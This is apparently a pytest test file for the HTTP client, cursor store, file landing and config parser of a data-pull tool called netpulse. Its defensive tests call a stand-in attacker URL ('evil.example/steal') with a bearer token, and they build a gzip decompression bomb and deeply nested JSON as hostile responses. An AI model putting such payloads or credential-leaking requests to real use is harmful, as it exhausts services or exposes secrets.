"""The pulls' HTTP client, cursors, landing and configuration, over real HTTP on loopback."""

from __future__ import annotations

import json
import multiprocessing
import time
from datetime import date

import pytest

from netpulse.config.pulling import read_pull_section
from netpulse.errors import ConfigError, PullFailed
from netpulse.pull.cursors import CursorStore, PullBusy
from netpulse.pull.http import ApiClient, Budget, BudgetSpent, OAuthClientCredentials, refused
from netpulse.pull.landing import Lander
from tests.vendor_apis.base import LoopbackApi, Response


class Echo(LoopbackApi):
    """Answers every path with its name, counting the requests; /token issues numbered tokens."""

    def __init__(self):
        super().__init__()
        self.tokens = 0
        self.valid: set[str] = set()

    def handle(self, request):
        if request.path == "/token":
            self.tokens += 1
            token = f"t{self.tokens}"
            self.valid.add(token)
            return Response(200, {"access_token": token, "expires_in": 3600})
        if request.path.startswith("/secure") and \
                request.headers.get("Authorization", "").removeprefix("Bearer ") not in self.valid:
            return Response(401, {"message": "expired"})
        if request.path == "/redirect":
            return Response(302, b"", {"Location": "http://elsewhere.example/x"})
        return Response(200, {"path": request.path})


def check(response, what, needs):
    if response.status_code >= 400:
        raise refused("Echo", response, what, needs, response.json().get("message", ""))


def client(api, *, budget=None, auth=None, **kwargs):
    return ApiClient("Echo", api.url, budget=budget or Budget(100, 60), timeout=2, check=check, auth=auth,
                     backoff_seconds=0.01, **kwargs)


@pytest.fixture
def api():
    with Echo() as server:
        yield server


def test_a_429_waits_as_long_as_retry_after_says_then_succeeds(api):
    api.fail("/a", 429, {"error": "slow down"}, {"Retry-After": "1"}, times=2)
    started = time.monotonic()
    assert client(api).json("GET", "/a") == {"path": "/a"}
    assert time.monotonic() - started >= 2.0
    assert len(api.calls("/a")) == 3


def test_5xx_and_timeouts_back_off_then_fail_saying_the_next_run_tries_again(api):
    api.fail("/b", 503, {"error": "down"}, times=2)
    api.fail("/b", 200, {"late": True}, times=1, delay=3)  # longer than the client's timeout
    assert client(api).json("GET", "/b") == {"path": "/b"}
    assert len(api.calls("/b")) == 4
    api.fail("/c", 500, {"error": "down"}, times=99)
    with pytest.raises(PullFailed, match="failed on GET /c \\(500\\), 6 times: the next run tries again") as info:
        client(api).json("GET", "/c")
    assert info.value.permanent is False


def test_an_expired_token_is_fetched_again_once(api):
    def fetch():
        return client(api).json("POST", "/token", authenticated=False)["access_token"], 3600

    auth = OAuthClientCredentials(fetch)
    session = client(api, auth=auth)
    assert session.json("GET", "/secure/1") == {"path": "/secure/1"}
    api.valid.clear()  # every token issued so far expires
    assert session.json("GET", "/secure/2") == {"path": "/secure/2"}
    assert api.tokens == 2
    api.valid.clear()
    api.fail("/token", 200, {"access_token": "never-valid", "expires_in": 3600}, times=5)
    with pytest.raises(PullFailed, match="401") as info:
        session.json("GET", "/secure/3")
    assert "never-valid" not in str(info.value)


def test_the_per_run_bound_stops_between_requests(api):
    session = client(api, budget=Budget(3, 60))
    for n in range(3):
        session.json("GET", f"/p{n}")
    with pytest.raises(BudgetSpent, match="3 requests per run"):
        session.json("GET", "/p3")
    api.fail("/slow", 429, {}, {"Retry-After": "30"})
    with pytest.raises(BudgetSpent, match="max_seconds"):
        client(api, budget=Budget(10, 5)).json("GET", "/slow")


def test_a_minimum_interval_spaces_requests(api):
    session = client(api, min_interval=0.4)
    started = time.monotonic()
    for n in range(3):
        session.json("GET", f"/i{n}")
    assert time.monotonic() - started >= 0.8
    started = time.monotonic()
    for n in range(3):  # methods without the limit (Slack's users.info) are not held back
        session.json("GET", f"/u{n}", paced=False)
    assert time.monotonic() - started < 0.4


def test_next_page_links_to_another_site_and_redirects_are_not_followed_with_credentials(api):
    session = client(api, headers={"Authorization": "Bearer secret-token"})
    with pytest.raises(PullFailed, match="another site") as info:
        session.json("GET", "http://evil.example/steal?page=2")
    assert "secret-token" not in str(info.value)
    response = session.request("GET", "/redirect")
    assert response.status_code == 302  # handed back, never followed with the token
    assert [r.path for r in api.requests] == ["/redirect"]


def test_errors_quote_the_vendor_but_never_a_header_or_a_query_value(api):
    api.fail("/q", 403, {"message": "Forbidden\x1b[2J for this app"})
    with pytest.raises(PullFailed) as info:
        client(api, headers={"X-API-TOKEN": "tok-123"}).json("GET", "/q", params={"email": "ann@example.org"},
                                                             needs="the scope read:things")
    text = str(info.value)
    assert "the app needs the scope read:things" in text and "\x1b" not in text
    assert "tok-123" not in text and "ann@example.org" not in text


def _hold_lock(root, ready, release):
    with CursorStore(root).lock("net-a", "slack"):
        ready.set()
        release.wait(10)


def test_cursors_are_written_whole_and_one_pull_per_network_and_api_runs_at_once(tmp_path):
    store = CursorStore(tmp_path)
    assert store.read("net-a", "slack", "C1") is None
    store.write("net-a", "slack", "C1", {"through": "1.0"})
    store.write("net-a", "slack", "C1", {"through": "2.0"})
    assert store.read("net-a", "slack", "C1") == {"through": "2.0"}
    assert [p.name for p in (tmp_path / "net-a" / "slack").iterdir()] == [store.path("net-a", "slack", "C1").name]
    store.path("net-a", "slack", "C1").write_text("{half")
    with pytest.raises(PullFailed, match="delete it to pull this stream again"):
        store.read("net-a", "slack", "C1")

    context = multiprocessing.get_context("fork")
    ready, release = context.Event(), context.Event()
    holder = context.Process(target=_hold_lock, args=(tmp_path, ready, release))
    holder.start()
    try:
        assert ready.wait(10)
        with pytest.raises(PullBusy, match="another pull of net-a/slack is running"), store.lock("net-a", "slack"):
            pass
        with store.lock("net-a", "zoom"):  # another API of the same network is not held up
            pass
    finally:
        release.set()
        holder.join(10)
    with store.lock("net-a", "slack"):
        pass


def test_landing_writes_each_piece_once_under_a_name_of_its_content(tmp_path):
    spec = read_pull_section({"slack": {"connection": "c", "channels": ["C1"]}}, "net-a", "networks.yaml")[0]
    lander = Lander(tmp_path, spec)
    assert lander.land("C1", "window-1", b"PK-one", ".zip") is True
    assert lander.land("C1", "window-1", b"PK-one", ".zip") is False
    assert lander.land("C1", "window-1", b"PK-two", ".zip") is True
    assert lander.unchanged == 1 and len(lander.landed) == 2
    assert all(p.startswith("net-a/forum/slack/pulled/C1-") for p in lander.landed)
    assert not list(tmp_path.rglob(".*")), "no temporary file is left behind"


@pytest.mark.parametrize("section, message", [
    ({"zoom": {"connection": "z"}}, "users must list what to pull"),
    ({"zoom": {"connection": "z", "users": ["a"], "client_secret": "x"}}, "secrets never go in the networks file"),
    ({"webex": {"connection": "w"}}, "unknown API 'webex'"),
    ({"discourse": {"connection": "d", "categories": ["12"]}}, "a category is '<slug>/<id>'"),
    ({"slack": {"connection": "bad id!", "channels": ["C1"]}}, "connection must name an Airflow connection id"),
    ({"slack": {"connection": "s", "channels": ["C1", "C1"]}}, "lists the same entry twice"),
    ({"qualtrics": {"connection": "q", "surveys": ["SV_1"], "max_pages": 0}}, "max_pages must be a whole number"),
    ({"msforms": {"connection": "g", "workbooks": ["x"]}}, "each workbook is {drive"),
])
def test_a_pull_section_with_a_mistake_says_which_setting_and_what_it_takes(section, message):
    with pytest.raises(ConfigError, match=message.replace("(", r"\(").replace("{", r"\{")):
        read_pull_section(section, "net-a", "networks.yaml")


def test_a_pull_section_reads_its_streams_and_defaults():
    specs = read_pull_section({
        "discourse": {"connection": "d", "since": date(2026, 1, 1)},
        "slack": {"connection": "s", "channels": ["C1", "G2"]},
        "msforms": {"connection": "g", "workbooks": [{"drive": "b!x", "item": "01A"}]},
    }, "net-a", "networks.yaml")
    by_api = {s.api: s for s in specs}
    assert by_api["discourse"].streams == ("latest",) and by_api["discourse"].since == date(2026, 1, 1)
    assert by_api["slack"].streams == ("C1", "G2") and by_api["slack"].lookback_days == 14
    assert by_api["slack"].min_request_interval_seconds == 61
    assert by_api["msforms"].streams == ("b!x/01A",) and by_api["msforms"].landing == ("survey", "msforms")
    assert json.dumps([s.target for s in specs]) == '["net-a/discourse", "net-a/slack", "net-a/msforms"]'


def test_a_hostile_api_cannot_fill_memory_stall_the_run_or_crash_it(api):
    import gzip

    bomb = gzip.compress(b"0" * (8 << 20))  # 8 MiB of zeros in a few kB
    api.fail("/bomb", 200, bomb, {"Content-Encoding": "gzip", "Content-Type": "application/json"})
    with pytest.raises(PullFailed, match="more than 1 MiB: refused, not read"):
        client(api, max_bytes=1 << 20).json("GET", "/bomb")
    api.fail("/deep", 200, b"[" * 100_000 + b"]" * 100_000, {"Content-Type": "application/json"})
    with pytest.raises(PullFailed, match="not JSON"):
        client(api).json("GET", "/deep")


def test_credentials_never_go_over_plain_http_except_on_loopback():
    with pytest.raises(PullFailed, match="is not https: credentials are never sent in clear text"):
        ApiClient("Echo", "http://forum.example.org", budget=Budget(1, 1), timeout=1, check=check)
    ApiClient("Echo", "https://forum.example.org", budget=Budget(1, 1), timeout=1, check=check).close()
    ApiClient("Echo", "http://127.0.0.1:8080", budget=Budget(1, 1), timeout=1, check=check).close()
